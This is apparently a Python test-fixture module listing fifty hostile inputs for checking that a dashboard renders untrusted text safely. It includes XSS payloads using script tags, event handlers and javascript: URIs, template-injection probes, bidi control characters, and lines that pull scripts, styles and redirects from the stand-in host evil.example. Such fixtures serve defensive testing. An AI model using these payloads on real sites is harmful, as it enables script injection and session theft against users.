"""Fifty texts that would do something if any part of the dashboard let them."""

from __future__ import annotations

import re

__all__ = ["HOSTILE", "as_name", "as_token"]

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "</script><script>alert(3)</script>",
    "</textarea><script>alert(4)</script>",
    "</title><script>alert(5)</script>",
    "</style><script>alert(6)</script>",
    "--><script>alert(7)</script>",
    "]]><script>alert(8)</script>",
    "<img src=x onerror=alert(9)>",
    "<img src=http://evil.example/i.png>",
    "</iframe><img src=x onerror=alert(10)>",
    '"><img src=x onerror=alert(11)>',
    "'><img src=x onerror=alert(12)>",
    "<svg onload=alert(13)>",
    "<svg><script>alert(14)</script></svg>",
    "<svg><a xlink:href=javascript:alert(15)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(16) attributeName=x>",
    "<math><mtext><img src=x onerror=alert(17)></mtext></math>",
    "<body onload=alert(18)>",
    "<iframe src=javascript:alert(19)></iframe>",
    "<iframe srcdoc='<script>alert(20)</script>'></iframe>",
    "<object data=javascript:alert(21)></object>",
    "<embed src=javascript:alert(22)>",
    "<a href=javascript:alert(23)>x</a>",
    "<b onmouseover=alert(24)>x</b>",
    "<input autofocus onfocus=alert(25)>",
    "<details open ontoggle=alert(26)>",
    "<video><source onerror=alert(27)></video>",
    "<marquee onstart=alert(28)>",
    "<form action=javascript:alert(29)><button>x</button></form>",
    "<meta http-equiv=refresh content=0;url=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>*{background:url(http://evil.example/x)}</style>",
    "<base href=http://evil.example/>",
    "javascript:alert(30)",
    "data:text/html,<script>alert(31)</script>",
    "[x](javascript:alert(32))",
    "![i](http://evil.example/i.png)",
    "[i]: http://evil.example/i.png",
    "**bold** _thin_ ~~gone~~ `code`",
    "$\\href{javascript:alert(33)}{x}$",
    ":material/home: :red[x] :smile:",
    "# heading",
    "| a | b |",
    "&lt;script&gt;alert(34)&lt;/script&gt; &#60;b&#62;",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "\"'`\\ \\u003cscript\\u003ealert(35)\\u003c/script\\u003e",
    "\u202eright to left\u202c \u2066isolated\u2069 \u200fmark",
    "caf\u00e9 \u0391\u03a9 \u5d50 \u05e9\u05dc\u05d5\u05dd \U0001f600 a\u0301\u0327",
)


def as_token(text: str) -> str:
    """The same without whitespace, as one word of a vocabulary; a slash parts attributes as well."""
    return re.sub(r"\s+", "/", text)


def as_name(text: str) -> str:
    """The same as a name of a folder."""
    return text.replace("/", "\u2044")
